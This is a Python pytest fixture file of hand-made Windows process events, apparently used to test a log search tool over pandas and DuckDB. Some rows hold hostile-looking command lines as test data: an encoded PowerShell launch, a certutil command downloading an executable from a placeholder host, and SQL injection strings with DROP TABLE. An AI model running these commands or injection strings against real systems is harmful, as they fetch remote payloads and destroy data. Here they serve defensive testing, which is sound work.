"""A small hand-made set of process events for the search tests.

Every row is there for a reason given beside it: a case difference, a
missing or empty value, a backslash, a wildcard character, a line break, or
text that looks like SQL. Row ids are the frame's index.
"""

from __future__ import annotations

import duckdb
import pandas as pd
import pytest

NA = None

# fmt: off
ROWS = [
    # id 0: the encoded PowerShell launch
    {"_time": "2024-05-01T10:00:00Z", "host": "WKS-01", "Name": "powershell.exe",
     "CommandLine": "powershell.exe -enc SQBFAFgA", "ProcessId": "868",
     "User": "CORP\\alice", "SessionId": "1",
     "Path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "Process Command Line": "powershell.exe -enc SQBFAFgA",
     "process.command_line": NA},
    # id 1: cmd running whoami
    {"_time": "2024-05-01T10:05:00Z", "host": "WKS-01", "Name": "cmd.exe",
     "CommandLine": "cmd.exe /c whoami", "ProcessId": "4", "User": "CORP\\bob",
     "SessionId": "0", "Path": "C:\\Windows\\System32\\cmd.exe",
     "Process Command Line": "cmd.exe /c whoami",
     "process.command_line": "cmd.exe /c whoami"},
    # id 2: mixed-case name, quoted executable, text SessionId
    {"_time": "2024-05-01T11:00:00Z", "host": "WKS-02", "Name": "PowerShell_ISE.exe",
     "CommandLine": '"C:\\Program Files\\x.exe" --flag', "ProcessId": "10000",
     "User": "CORP\\alice", "SessionId": "Services",
     "Path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell_ISE.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 3: a leading-zero number and a user with a space
    {"_time": "2024-05-02T09:00:00Z", "host": "WKS-02", "Name": "svchost.exe",
     "CommandLine": "svchost.exe -k netsvcs", "ProcessId": "00868",
     "User": "NT AUTHORITY\\SYSTEM", "SessionId": "0",
     "Path": "C:\\Windows\\System32\\svchost.exe",
     "Process Command Line": "svchost.exe -k netsvcs", "process.command_line": NA},
    # id 4: a URL with '=' and '?', a hex id, a missing user, a +0000 offset
    {"_time": "2024-05-08T10:00:00.000+0000", "host": "WKS-03", "Name": "certutil.exe",
     "CommandLine": "certutil -urlcache -f http://x.example/a?b=c out.exe",
     "ProcessId": "0x1a", "User": NA, "SessionId": "1",
     "Path": "C:\\Windows\\System32\\certutil.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 5: blank name (empty string), missing command line and id
    {"_time": "2024-05-09T10:00:00Z", "host": "WKS-03", "Name": "",
     "CommandLine": NA, "ProcessId": NA, "User": "CORP\\carol", "SessionId": "",
     "Path": NA, "Process Command Line": NA, "process.command_line": NA},
    # id 6: non-ASCII, embedded quotes, lower-case host, a +02:00 offset
    {"_time": "2024-05-10T10:00:00+02:00", "host": "wks-03", "Name": "Über.exe",
     "CommandLine": 'über "quoted" thing', "ProcessId": "2.5", "User": "CORP\\dave",
     "SessionId": "1", "Path": "C:\\Users\\dave\\Über.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 7: SQL-looking text and a UNC path
    {"_time": "2024-05-10T10:00:00Z", "host": "WKS-04", "Name": "COPY",
     "CommandLine": "cmd /c copy a b; DROP TABLE t", "ProcessId": "-3",
     "User": "CORP\\eve", "SessionId": "2", "Path": "\\\\server\\share\\copy.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 8: a line break inside the command line, an exponent, a bad time
    {"_time": "not a time", "host": "WKS-04", "Name": "notepad.exe",
     "CommandLine": "line1\nline2 -enc", "ProcessId": "1e3", "User": "CORP\\eve",
     "SessionId": "2", "Path": "C:\\Windows\\notepad.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 9: a literal '*' in a name, an SQL injection string, no time
    {"_time": NA, "host": "WKS-05", "Name": "a*b.exe",
     "CommandLine": "x'); DROP TABLE t; --", "ProcessId": "99",
     "User": "CORP\\frank", "SessionId": "10", "Path": "C:\\Temp\\a*b.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 10: '#' in a path, a backslash-quote in the command line
    {"_time": "2024-05-10T12:00:00Z", "host": "WKS-05", "Name": "csc.exe",
     "CommandLine": 'csc.exe /define:"A\\"B"', "ProcessId": "5", "User": "CORP\\bob",
     "SessionId": "1", "Path": "C:\\Tools\\C#\\csc.exe",
     "Process Command Line": NA, "process.command_line": NA},
    # id 11: the same program as id 1, upper case
    {"_time": "2024-05-10T12:30:00Z", "host": "WKS-05", "Name": "cmd.exe",
     "CommandLine": "CMD.EXE /C dir", "ProcessId": "12", "User": "CORP\\Bob",
     "SessionId": "1", "Path": "C:\\Windows\\System32\\cmd.exe",
     "Process Command Line": NA, "process.command_line": NA},
]
# fmt: on

ALL_IDS = list(range(len(ROWS)))


def make_events() -> pd.DataFrame:
    """The hand-made events as pyarrow-backed text, index = row id."""
    frame = pd.DataFrame(ROWS).astype(pd.StringDtype("pyarrow"))
    frame.index = pd.Index(ALL_IDS, name="rid")
    return frame


@pytest.fixture(scope="session")
def events() -> pd.DataFrame:
    """The hand-made events (do not modify: shared by the whole session)."""
    return make_events()


def load_into_duckdb(frame: pd.DataFrame) -> duckdb.DuckDBPyConnection:
    """A new in-memory DuckDB holding ``frame`` as table ``events`` with ``rid``."""
    con = duckdb.connect(":memory:")
    con.register("staged", frame.reset_index(names="rid"))
    con.execute("CREATE TABLE events AS SELECT * FROM staged")
    con.unregister("staged")
    return con


@pytest.fixture(scope="session")
def duck(events: pd.DataFrame) -> duckdb.DuckDBPyConnection:
    """The hand-made events in DuckDB, for read-only queries."""
    con = load_into_duckdb(events)
    yield con
    con.close()
